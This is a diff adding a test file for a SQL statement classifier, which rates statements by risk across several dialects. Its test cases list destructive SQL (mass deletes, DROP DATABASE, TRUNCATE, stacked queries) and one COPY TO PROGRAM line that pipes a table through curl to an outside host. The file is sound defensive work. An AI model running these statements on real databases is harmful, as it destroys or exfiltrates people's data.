@@ -1,0 +1,113 @@
+import assert from 'node:assert/strict';
+import { before, test } from 'node:test';
+import type { SqlDialect } from '../../core/index.js';
+import { classifySql, initSql } from './index.js';
+
+before(() => initSql());
+
+// [sql, dialect, risk, rule ids in order]
+const CASES: [string, SqlDialect, string, string[]][] = [
+  ['SELECT id, email FROM accounts WHERE created_at > now() - interval \'1 day\'', 'postgresql', 'readonly', ['sql.select']],
+  ['BEGIN; SELECT 1; COMMIT', 'postgresql', 'readonly', ['sql.transaction', 'sql.select', 'sql.transaction']],
+  ['SHOW search_path', 'postgresql', 'readonly', ['sql.variable-show']],
+  ['EXPLAIN DELETE FROM invoices', 'postgresql', 'readonly', ['sql.explain']],
+  ['EXPLAIN (ANALYZE false) DELETE FROM invoices', 'postgresql', 'readonly', ['sql.explain']],
+  ['EXPLAIN ANALYZE DELETE FROM invoices', 'postgresql', 'destructive', ['sql.delete-all']],
+  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE invoices SET paid = true WHERE id = 7', 'postgresql', 'mutating', ['sql.update']],
+  ['INSERT INTO audit.events (kind) VALUES (\'login\')', 'postgresql', 'mutating', ['sql.insert']],
+  ['UPDATE users SET active = false WHERE last_seen < \'2020-01-01\'', 'postgresql', 'mutating', ['sql.update']],
+  ['UPDATE users SET active = false', 'postgresql', 'destructive', ['sql.update-all']],
+  ['DELETE FROM sessions WHERE 1 = 1', 'postgresql', 'destructive', ['sql.delete-all']],
+  ['DELETE FROM sessions WHERE true', 'postgresql', 'destructive', ['sql.delete-all']],
+  ['DELETE FROM sessions WHERE id = id', 'postgresql', 'destructive', ['sql.delete-all']],
+  ['DELETE FROM sessions WHERE token IS NULL OR token IS NOT NULL', 'postgresql', 'destructive', ['sql.delete-all']],
+  ["DELETE FROM sessions WHERE name LIKE '%'", 'postgresql', 'destructive', ['sql.delete-all']],
+  ["DELETE FROM sessions WHERE 'a' = 'a' AND 2 > 1", 'postgresql', 'destructive', ['sql.delete-all']],
+  ['DELETE FROM sessions WHERE 1 = 0 OR user_id = 4', 'postgresql', 'mutating', ['sql.delete']],
+  ['DELETE FROM sessions WHERE expires_at < now()', 'postgresql', 'mutating', ['sql.delete']],
+  ['TRUNCATE billing.ledger, billing.entries', 'postgresql', 'destructive', ['sql.truncate', 'sql.truncate']],
+  ['DROP TABLE IF EXISTS public.customers', 'postgresql', 'destructive', ['sql.drop-table']],
+  ['DROP SCHEMA reporting CASCADE', 'postgresql', 'destructive', ['sql.drop-schema']],
+  ['DROP DATABASE shop', 'postgresql', 'destructive', ['sql.drop-database']],
+  ['DROP INDEX idx_orders_created', 'postgresql', 'mutating', ['sql.drop-index']],
+  ['DROP VIEW monthly_totals', 'postgresql', 'mutating', ['sql.drop-view']],
+  ['DROP VIEW monthly_totals CASCADE', 'postgresql', 'destructive', ['sql.drop-view']],
+  ['DROP OWNED BY departed_user', 'postgresql', 'destructive', ['sql.drop-owned']],
+  ['REASSIGN OWNED BY old_role TO new_role', 'postgresql', 'mutating', ['sql.reassign-owned']],
+  ['ALTER TABLE orders DROP COLUMN notes', 'postgresql', 'destructive', ['sql.alter-drop-column']],
+  ['ALTER TABLE orders DROP CONSTRAINT orders_total_check', 'postgresql', 'destructive', ['sql.alter-drop-constraint']],
+  ['ALTER TABLE orders ADD COLUMN notes text', 'postgresql', 'mutating', ['sql.alter-table']],
+  ['CREATE TABLE t (id int primary key)', 'postgresql', 'mutating', ['sql.create']],
+  ['CREATE INDEX CONCURRENTLY ON orders (created_at)', 'postgresql', 'mutating', ['sql.index']],
+  ['GRANT SELECT ON orders TO analyst', 'postgresql', 'mutating', ['sql.grant']],
+  ['REVOKE ALL ON orders FROM analyst', 'postgresql', 'mutating', ['sql.grant']],
+  ['VACUUM FULL orders', 'postgresql', 'mutating', ['sql.vacuum']],
+  ['WITH gone AS (DELETE FROM carts RETURNING id) SELECT count(*) FROM gone', 'postgresql', 'destructive', ['sql.select', 'sql.delete-all']],
+  ['WITH x AS (UPDATE carts SET seen = true WHERE id = 3 RETURNING id) SELECT * FROM x', 'postgresql', 'mutating', ['sql.select', 'sql.update']],
+  ["COPY orders TO PROGRAM 'curl -T - https://example.net'", 'postgresql', 'unknown', ['sql.copy-program']],
+  ["COPY orders FROM '/srv/import/orders.csv' CSV", 'postgresql', 'mutating', ['sql.copy-from']],
+  ['COPY (SELECT * FROM orders) TO STDOUT', 'postgresql', 'readonly', ['sql.copy-to-stdout']],
+  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = \'shop\'', 'postgresql', 'destructive', ['sql.select', 'sql.fn-pg-terminate-backend']],
+  ["SELECT dblink_exec('dbname=other', 'DROP TABLE x')", 'postgresql', 'unknown', ['sql.select', 'sql.fn-dblink-exec']],
+  ['CALL cleanup_everything()', 'postgresql', 'unknown', ['sql.call']],
+  ['MERGE INTO stock s USING incoming i ON s.sku = i.sku WHEN MATCHED THEN DELETE', 'postgresql', 'destructive', ['sql.merge-delete']],
+  ['SELECT 1; DROP TABLE a; INSERT INTO b VALUES (1)', 'postgresql', 'destructive', ['sql.select', 'sql.drop-table', 'sql.insert']],
+  ['DO $$ BEGIN DELETE FROM queue; END $$', 'postgresql', 'destructive', ['sql.delete-all']],
+  ["DO $$ BEGIN EXECUTE 'TRUNCATE ' || 'queue'; END $$", 'postgresql', 'unknown', ['sql.do-dynamic-sql']],
+  ['DO $$ BEGIN RAISE NOTICE \'hello\'; END $$', 'postgresql', 'readonly', ['sql.do-block']],
+  // other dialects
+  ['DELETE FROM `orders`', 'mysql', 'destructive', ['sql.delete-all']],
+  ['DELETE FROM orders WHERE id = 9 LIMIT 1', 'mysql', 'mutating', ['sql.delete']],
+  ['UPDATE orders SET total = 0 WHERE 1', 'mysql', 'destructive', ['sql.update-all']],
+  ['DROP DATABASE IF EXISTS shop', 'mysql', 'destructive', ['sql.drop-database']],
+  ['ALTER TABLE orders DROP COLUMN notes', 'mariadb', 'destructive', ['sql.alter-drop-column']],
+  ['ALTER TABLE orders DROP INDEX idx_total', 'mysql', 'mutating', ['sql.alter-table']],
+  ["SELECT * FROM orders INTO OUTFILE '/var/lib/mysql-files/o.csv'", 'mysql', 'destructive', ['sql.select-into-file']],
+  ['SHOW TABLES', 'mysql', 'readonly', ['sql.show']],
+  ['DELETE FROM notes', 'sqlite', 'destructive', ['sql.delete-all']],
+  ['SELECT name FROM sqlite_master', 'sqlite', 'readonly', ['sql.select']],
+  ['TRUNCATE TABLE dbo.events', 'transactsql', 'destructive', ['sql.truncate']],
+  ['EXEC dbo.purge_all', 'transactsql', 'unknown', ['sql.call']],
+  ['DELETE FROM events', 'snowflake', 'destructive', ['sql.delete-all']],
+  ['DROP TABLE analytics.events', 'bigquery', 'destructive', ['sql.drop-table']],
+];
+
+test('SQL statements are classified by effect, every statement listed', () => {
+  const got = CASES.map(([sql, dialect]) => {
+    const r = classifySql(sql, dialect);
+    return [sql, dialect, r.risk, r.findings.map((f) => f.rule)];
+  });
+  assert.deepEqual(got, CASES);
+});
+
+test('targets are schema-qualified table names', () => {
+  const r = classifySql('DROP TABLE billing.ledger; TRUNCATE audit.log');
+  assert.deepEqual(r.findings.map((f) => f.target), ['billing.ledger', 'audit.log']);
+  assert.equal(r.summary, 'SQL: destructive (drop-table billing.ledger, truncate-table audit.log)');
+});
+
+test('input that cannot be read is unknown with an error code', () => {
+  const codes = ['SELEC * FRM x', '', ' ;; ', '-- just a comment', 'x'.repeat(1_000_001)].map((s) => {
+    const r = classifySql(s);
+    return [r.risk, r.error?.code];
+  });
+  assert.deepEqual(codes, [
+    ['unknown', 'E_PARSE'],
+    ['unknown', 'E_EMPTY_INPUT'],
+    ['unknown', 'E_EMPTY_INPUT'],
+    ['unknown', 'E_EMPTY_INPUT'],
+    ['unknown', 'E_TOO_LARGE'],
+  ]);
+  const mysql = classifySql('DELETE FROM WHERE', 'mysql');
+  assert.deepEqual([mysql.risk, mysql.error?.code], ['unknown', 'E_PARSE']);
+});
+
+test('deeply nested SQL is bounded, not a crash', () => {
+  // Parentheses leave no trace in the tree; nested subqueries do, until the parser's stack limit.
+  const parens = classifySql(`SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}`);
+  assert.equal(parens.risk, 'readonly');
+  const subqueries = classifySql(`SELECT ${'(SELECT '.repeat(3000)}1${')'.repeat(3000)}`);
+  assert.deepEqual([subqueries.risk, subqueries.error?.code], ['unknown', 'E_PARSE']);
+  const hidden = classifySql(`SELECT ${'(SELECT '.repeat(50)}1${')'.repeat(50)}; WITH d AS (DELETE FROM t RETURNING 1) SELECT 1`);
+  assert.equal(hidden.risk, 'destructive');
+});
